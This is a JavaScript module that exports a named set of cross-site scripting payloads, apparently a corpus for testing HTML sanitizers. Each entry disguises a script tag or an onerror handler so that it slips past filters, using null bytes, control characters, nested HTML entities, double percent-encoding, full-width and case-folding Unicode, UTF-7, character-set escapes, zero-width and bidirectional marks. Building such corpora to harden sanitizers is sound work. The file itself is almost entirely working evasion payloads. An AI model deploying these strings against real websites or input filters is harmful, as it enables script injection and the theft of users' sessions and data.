import { call, decimal, hexadecimal, picture, vectorClass } from './vector';

const script = `<script>${call}</script>`;

export const disguises = vectorClass('disguises', {
  'a null in the name of a tag': `<scr\u0000ipt>${call}</scr\u0000ipt><\u0000img src=gone onerror=${call}>`,
  'a null in the name of an attribute': `<img src=gone on\u0000error=${call}>`,
  'nulls all around': `\u0000<\u0000p\u0000 \u0000onclick=${call}\u0000>x\u0000</p>`,
  'control characters for blanks': `<img\u000bsrc=gone\u000conerror=${call}><img\u001fsrc=gone\u00a0onerror=${call}>`,
  'entities for all of it': decimal(script),
  'entities without their ends': `${hexadecimal(picture, '')} &lt<script&gt>${call}&lt/script&gt`,
  'entities of entities': `&amp;lt;img src=gone onerror=${call}&amp;gt;&amp;#60;script&amp;#62;`,
  'entities of entities within an attribute': `<p title="&amp;quot;&amp;gt;&amp;lt;img src=gone onerror=${call}&amp;gt;">x</p>`,
  'an option around entities': `<option>&lt;script&gt;${call}&lt;/script&gt;</option>`,
  'entities beyond all characters': `&#60;&#x110000;&#xd800;&#0;&#x80;script&#62;${call}&#9999999999;`,
  'letters that become brackets': `&nvlt;script&nvgt;${call}&LT;/script&GT;\u2039script\u203a`,
  'percent signs, once and twice': `${encodeURIComponent(script)} ${encodeURIComponent(encodeURIComponent(picture))}`,
  'full-width letters': `\uff1cscript\uff1e${call}\uff1c/script\uff1e\ufe64img src=gone onerror=${call}\ufe65`,
  'letters that turn into others by case': `<\u017fcript>${call}</\u017fcript><lin\u212a rel=stylesheet href=/x><\u0131mg src=gone onerror=${call}>`,
  'escapes of programs and styles': `\\u003cscript\\u003e${call}\\u003c/script\\u003e\\x3cimg src=gone onerror=${call}\\x3e\\3c script\\3e`,
  'brackets of other encodings': `+ADw-script+AD4-${call}+ADw-/script+AD4-\u00bcscript\u00be${call}\u00bc/script\u00be`,
  'a switch of the character set': `\u001b$B<img title="\u001b(J\\" onerror=${call} x="">\u001b(B`,
  'a mark of the byte order in front': `\ufeff${script}\ufeff${picture}`,
  'invisible letters between': `<scr\u200bipt>${call}</scr\u200bipt><im\u00adg src=gone onerror=${call}>`,
  'a change of direction': `\u202e<p title="\u2066">x</p>\u2069 ${picture}`,
  'ends of lines that only programs see': `x\u2028${call}\u2029//\u0085</p>`,
  'a character for a missing one': `\ufffd<\ufffdscript>${call}</script\ufffd>`,
  'marks on a bracket': `<\u0338script>${call}>\u0338</script>`,
});
